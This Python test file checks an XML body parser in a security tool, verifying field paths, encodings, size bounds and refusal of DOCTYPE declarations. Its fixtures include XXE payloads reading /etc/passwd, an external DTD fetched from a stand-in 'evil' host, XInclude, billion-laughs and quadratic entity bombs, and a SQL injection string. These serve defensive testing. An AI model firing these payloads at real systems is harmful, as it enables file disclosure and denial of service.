"""XML bodies: fields with stable paths, markup for the detectors, bounds, encodings, never raising."""

from __future__ import annotations

import tracemalloc

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vigil.http.body import parse_body
from vigil.http.fields import BodyField
from vigil.http.urlcodec import Encoding
from vigil.http.xmlbody import (
    MAX_ATTRIBUTES,
    MAX_BYTES,
    MAX_DEPTH,
    MAX_MARKUP,
    MAX_TEXT,
    document_encoding,
    is_xml,
    parse_xml,
    xml_problem,
)


def pairs(fields: list[BodyField]) -> list[tuple[str, str]]:
    return [(f.path, f.text) for f in fields]


def nested(depth: int, leaf: str = "x") -> bytes:
    return ("<e>" * depth + leaf + "</e>" * depth).encode()


BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
        for i in range(1, 10)
    )
    + b"]><lolz>&lol9;</lolz>"
)
QUADRATIC = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "'
    + b"A" * 50_000
    + b'">]><r>'
    + b"&a;" * 20_000
    + b"</r>"
)


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        pytest.param(b"<a>1</a>", [("xml.a", "1")], id="root-text"),
        pytest.param(
            b'<login><user name="tom">t</user><pass/></login>',
            [("xml.login.user@name", "tom"), ("xml.login.user", "t"), ("xml.login.pass", "")],
            id="children-and-attributes",
        ),
        pytest.param(
            b"<o><item>1</item><item>2</item></o>",
            [("xml.o.item", "1"), ("xml.o.item", "2")],
            id="repeated-elements-share-a-path",
        ),
        pytest.param(
            b"<o>\n  <a>1</a>\n  <b>2</b>\n</o>",
            [("xml.o.a", "1"), ("xml.o.b", "2")],
            id="indentation-is-no-field",
        ),
        pytest.param(
            b"<p>x<b>y</b>z</p>", [("xml.p.b", "y"), ("xml.p", "xz")], id="tail-text-is-read"
        ),
        pytest.param(
            b"<a><![CDATA[<script>]]>&lt;&#x41;&#66;&amp;</a>",
            [("xml.a", "<script><AB&")],
            id="cdata-and-references",
        ),
        pytest.param(b"<a>x<!-- hidden -->y</a>", [("xml.a", "xy")], id="comments-are-not-read"),
        pytest.param(
            b'<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope">'
            b'<s:Body><m:get xmlns:m="urn:x" m:id="7">v</m:get></s:Body></s:Envelope>',
            [("xml.Envelope.Body.get@id", "7"), ("xml.Envelope.Body.get", "v")],
            id="namespaces-are-local-names",
        ),
        pytest.param(
            b'<a v="x&#10;y" w="p\nq"/>',
            [("xml.a@v", "x\ny"), ("xml.a@w", "p q"), ("xml.a", "")],
            id="attribute-values-normalised-as-parsers-do",
        ),
        pytest.param(
            b'<?xml version="1.0" encoding="ISO-8859-1"?><a>caf\xe9</a>',
            [("xml.a", "caf\u00e9")],
            id="declared-latin-1",
        ),
        pytest.param(b"\xef\xbb\xbf<a>b</a>", [("xml.a", "b")], id="utf-8-bom"),
        pytest.param(
            '<?xml version="1.0" encoding="UTF-16"?><a>\u00e9</a>'.encode("utf-16"),
            [("xml.a", "\u00e9")],
            id="utf-16-bom",
        ),
        pytest.param(
            "\ufeff<a>\u00e9</a>".encode("utf-16-be"), [("xml.a", "\u00e9")], id="utf-16-be-bom"
        ),
        pytest.param(
            "<a>\uff1cscript\uff1e</a>".encode(), [("xml.a", "<script>")], id="nfkc-normalised"
        ),
    ],
)
def test_values_become_fields_with_paths(body: bytes, expected: list[tuple[str, str]]) -> None:
    parsed = parse_xml(body, "xml", 100)
    assert (parsed.error, parsed.over_bound) == ("", "")
    assert pairs(parsed.fields) == expected


def test_control_characters_and_normalisation_are_flagged() -> None:
    fields = parse_xml(b"<a>x&#13;&#10;y</a><!-- -->", "xml", 10).fields
    assert fields[0].flags & Encoding.CRLF
    fields = parse_xml("<a>\uff1c</a>".encode(), "xml", 10).fields
    assert fields[0].flags & Encoding.NFKC_CHANGED


@pytest.mark.parametrize(
    ("body", "path", "text"),
    [
        pytest.param(
            b'<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></r>',
            "xml!xinclude",
            '<xi:include href="/etc/passwd"/>',
            id="xinclude",
        ),
        pytest.param(
            b'<r xmlns:q="http://www.w3.org/2001/XInclude"><q:include href="a"/></r>',
            "xml!xinclude",
            '<q:include href="a"/>',
            id="xinclude-any-prefix",
        ),
        pytest.param(
            b'<?xml-stylesheet href="x.xsl"?><r/>',
            "xml!pi",
            '<?xml-stylesheet href="x.xsl"?>',
            id="processing-instruction",
        ),
    ],
)
def test_markup_comes_back_as_sent(body: bytes, path: str, text: str) -> None:
    parsed = parse_xml(body, "xml", 100)
    markup = [f for f in parsed.fields if f.kind == "markup"]
    assert [(f.path, f.text) for f in markup] == [(path, text)]
    assert parsed.error == ""


def test_a_look_alike_include_element_is_data() -> None:
    parsed = parse_xml(b'<r><include href="a"/></r>', "xml", 100)
    assert all(f.kind == "value" for f in parsed.fields)


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', id="xxe"),
        pytest.param(b'<!DOCTYPE r SYSTEM "http://evil/x.dtd"><r/>', id="external-subset"),
        pytest.param(
            b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil/x">%p;]><r/>', id="parameter-entity"
        ),
        pytest.param(b'<!DOCTYPE r [<!ENTITY s "<script>">]><r>&s;</r>', id="internal-entity"),
        pytest.param(BILLION_LAUGHS, id="billion-laughs"),
        pytest.param(QUADRATIC, id="quadratic-blowup"),
    ],
)
def test_a_doctype_stops_the_parse_and_no_entity_is_expanded(body: bytes) -> None:
    parsed = parse_xml(body, "xml", 100)
    assert "document type declaration" in parsed.error
    assert [f.path for f in parsed.fields] == ["xml!doctype"]
    doctype = parsed.fields[0]
    assert doctype.kind == "markup"
    assert doctype.text.startswith("<!DOCTYPE ")
    assert len(doctype.text) <= MAX_MARKUP + 200


@pytest.mark.parametrize("body", [BILLION_LAUGHS, QUADRATIC])
def test_entity_bombs_cost_bounded_memory(body: bytes) -> None:
    tracemalloc.start()
    try:
        parse_xml(body, "xml", 1024)
        xml_problem(body, None)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 4 * len(body) + 256 * 1024


@pytest.mark.parametrize(
    ("body", "error"),
    [
        pytest.param(b"<a><b>1</a>", "mismatched tag", id="mismatched"),
        pytest.param(b"<a>1", "no element found", id="unclosed"),
        pytest.param(b"<a>1</a><b/>", "junk after document element", id="two-roots"),
        pytest.param(b"<p:a>1</p:a>", "unbound prefix", id="unbound-prefix"),
        pytest.param(b"not xml", "syntax error", id="text"),
    ],
)
def test_malformed_xml_is_an_error_after_the_fields_read(body: bytes, error: str) -> None:
    parsed = parse_xml(body, "xml", 100)
    assert parsed.error.startswith("invalid XML: ")
    assert error in parsed.error


def test_fields_before_a_syntax_error_are_kept() -> None:
    parsed = parse_xml(b"<r><a>1</a><b>2</c></r>", "xml", 100)
    assert pairs(parsed.fields) == [("xml.r.a", "1")]
    assert parsed.error


@pytest.mark.parametrize(
    ("body", "max_fields", "bound"),
    [
        pytest.param(
            nested(MAX_DEPTH + 5, "deep"), 100, f"nesting deeper than {MAX_DEPTH}", id="depth"
        ),
        pytest.param(
            ("<a " + " ".join(f'k{i}="v"' for i in range(MAX_ATTRIBUTES + 1)) + "/>").encode(),
            1000,
            f"more than {MAX_ATTRIBUTES} attributes",
            id="attributes",
        ),
        pytest.param(
            b"<a>" + b"x" * (MAX_TEXT + 10) + b"</a>", 10, f"longer than {MAX_TEXT}", id="text"
        ),
        pytest.param(
            b'<a v="' + b"x" * (MAX_TEXT + 10) + b'"/>', 10, f"longer than {MAX_TEXT}", id="attr"
        ),
        pytest.param(b"<r>" + b"<a>1</a>" * 50 + b"</r>", 20, "more than 20 fields", id="fields"),
        pytest.param(
            b"<r>" + b"<a/>" * (MAX_BYTES // 4) + b"</r>",
            10**6,
            f"more than {MAX_BYTES} bytes",
            id="bytes",
        ),
    ],
)
def test_bounds_are_reported(body: bytes, max_fields: int, bound: str) -> None:
    parsed = parse_xml(body, "xml", max_fields)
    assert bound in parsed.over_bound
    assert parsed.error == ""
    assert len(parsed.fields) <= max_fields
    assert all(len(f.text) <= MAX_TEXT for f in parsed.fields)


def test_deep_nesting_costs_bounded_memory() -> None:
    body = b"<a>" * (MAX_BYTES // 3)
    tracemalloc.start()
    try:
        parsed = parse_xml(body, "xml", 1024)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert "nesting deeper" in parsed.over_bound
    assert peak < 2 * len(body)


def test_depth_bound_keeps_the_shallow_fields() -> None:
    body = b"<r><a>1</a>" + nested(MAX_DEPTH + 1, "deep") + b"</r>"
    parsed = parse_xml(body, "xml", 100)
    assert ("xml.r.a", "1") in pairs(parsed.fields)
    assert all(f.text != "deep" for f in parsed.fields)


@pytest.mark.parametrize(
    ("body", "codec", "problem"),
    [
        pytest.param(b"<a/>", "utf-8", "", id="default-utf-8"),
        pytest.param(b'<?xml version="1.0" encoding="utf-8"?><a/>', "utf-8", "", id="utf-8"),
        pytest.param(b"<?xml version='1.0' encoding='latin1'?><a/>", "latin-1", "", id="latin1"),
        pytest.param("<a/>".encode("utf-16"), "utf-16-le", "", id="utf-16-bom"),
        pytest.param(b'<?xml version="1.0" encoding="utf-7"?><a/>', "utf-8", "utf-7", id="utf-7"),
        pytest.param(
            b'<?xml version="1.0" encoding="windows-1252"?><a/>', "utf-8", "windows", id="cp1252"
        ),
        pytest.param(
            b'<?xml version="1.0" encoding="UTF-32"?><a/>', "utf-32", "utf-32", id="utf-32"
        ),
        pytest.param("<a/>".encode("utf-32"), "utf-32", "UTF-32", id="utf-32-bom"),
        pytest.param("<a/>".encode("utf-16-le"), "utf-8", "without a byte order", id="utf-16-bare"),
        pytest.param("\n<a/>".encode("utf-16-le"), "utf-8", "without a byte order", id="utf-16-ws"),
        pytest.param("<a/>".encode("utf-32-le"), "utf-8", "without a byte order", id="utf-32-bare"),
        pytest.param("<a/>".encode("utf-32-be"), "utf-8", "without a byte order", id="utf-32-be"),
        pytest.param(
            b'\xef\xbb\xbf<?xml version="1.0" encoding="ISO-8859-1"?><a/>',
            "utf-8",
            "byte order mark",
            id="bom-contradicts-declaration",
        ),
    ],
)
def test_document_encoding(body: bytes, codec: str, problem: str) -> None:
    found = document_encoding(body)
    assert found.codec == codec
    assert (problem in found.problem) if problem else found.problem == ""


def test_utf_32_declared_on_ascii_bytes_is_refused_not_read() -> None:
    assert "utf-32" in xml_problem(b'<?xml version="1.0" encoding="UTF-32"?><a/>', None)


@pytest.mark.parametrize(
    ("body", "charset", "refused"),
    [
        pytest.param(b"<a>x</a>", None, False, id="plain"),
        pytest.param(b"<a>x</a>", "utf-8", False, id="utf-8-charset"),
        pytest.param(b"<a>x</a>", "iso-8859-1", False, id="ascii-in-latin-1"),
        pytest.param("<a>\u00e9</a>".encode(), "iso-8859-1", True, id="non-ascii-utf-8-vs-latin-1"),
        pytest.param(
            b'<?xml version="1.0" encoding="ISO-8859-1"?><a>\xe9</a>',
            "utf-8",
            True,
            id="declaration-contradicts-charset",
        ),
        pytest.param("<a>\u00e9</a>".encode("utf-16"), "utf-16", False, id="utf-16-both"),
        pytest.param(b"<a>x</a>", "utf-7", True, id="unknown-charset"),
        pytest.param(b"<!DOCTYPE a><a>x</a>", None, True, id="bare-doctype"),
        pytest.param(b"<a>DOCTYPE</a>", None, False, id="doctype-as-text"),
        pytest.param(b"<!-- <!DOCTYPE a> --><a/>", None, False, id="doctype-in-a-comment"),
        pytest.param("<!DOCTYPE a><a/>".encode("utf-16"), None, True, id="doctype-in-utf-16"),
        pytest.param(BILLION_LAUGHS, None, True, id="billion-laughs"),
    ],
)
def test_xml_problem(body: bytes, charset: str | None, refused: bool) -> None:
    assert bool(xml_problem(body, charset)) is refused


@pytest.mark.parametrize(
    ("media", "expected"),
    [
        ("application/xml", True),
        ("text/xml", True),
        ("application/soap+xml", True),
        ("application/atom+xml", True),
        ("application/json", False),
        ("text/html", False),
        ("application/xml-dtd", False),
    ],
)
def test_is_xml(media: str, expected: bool) -> None:
    assert is_xml(media) is expected


def test_parse_body_reads_xml_and_a_json_document_sent_as_xml() -> None:
    assert pairs(parse_body(b"<a>1</a>", "text/xml", "text/xml", 10).fields) == [("xml.a", "1")]
    parsed = parse_body(b'{"a": "1"}', "application/xml", "application/xml", 10)
    assert parsed.error.startswith("invalid XML")
    assert ("json.a", "1") in pairs(parsed.fields)


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(b"user=tom' or 1=1--", id="form-sent-as-xml"),
        pytest.param(b"<r>tom' or 1=1--", id="unclosed"),
        pytest.param(b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', id="dtd"),
    ],
)
def test_a_body_that_is_not_read_as_xml_is_also_one_raw_value(body: bytes) -> None:
    parsed = parse_body(body, "application/xml", "application/xml", 10)
    assert parsed.error
    assert ("body", body.decode()) in pairs(parsed.fields)


@settings(max_examples=400, deadline=None)
@given(st.binary(max_size=600))
def test_arbitrary_bytes_never_raise_and_stay_bounded(body: bytes) -> None:
    parsed = parse_xml(body, "xml", 16)
    assert len(parsed.fields) <= 16
    assert all(len(f.text) <= MAX_TEXT for f in parsed.fields)
    xml_problem(body, "utf-8")


_TAGS = st.sampled_from(["a", "b", "x:c", "d"])
_TEXTS = st.text(
    st.characters(blacklist_categories=("Cs", "Cc", "Cn")) | st.sampled_from("\t\n"), max_size=12
)


@st.composite
def documents(draw: st.DrawFn, depth: int = 0) -> str:
    tag = draw(_TAGS)
    children = draw(st.lists(st.just(None), max_size=3 if depth < 4 else 0))
    text = draw(_TEXTS).replace("]]>", "")
    body = f"<![CDATA[{text}]]>" + "".join(draw(documents(depth + 1)) for _ in children)
    xmlns = ' xmlns:x="urn:x"' if depth == 0 else ""
    return f'<{tag}{xmlns} k="{draw(st.sampled_from(["1", "&lt;", "&#x41;"]))}">{body}</{tag}>'


@settings(max_examples=200, deadline=None)
@given(documents())
def test_well_formed_documents_parse_within_bounds(doc: str) -> None:
    parsed = parse_xml(doc.encode(), "xml", 64)
    assert parsed.error == ""
    assert all(f.path.startswith("xml.") for f in parsed.fields)
    assert len(parsed.fields) <= 64
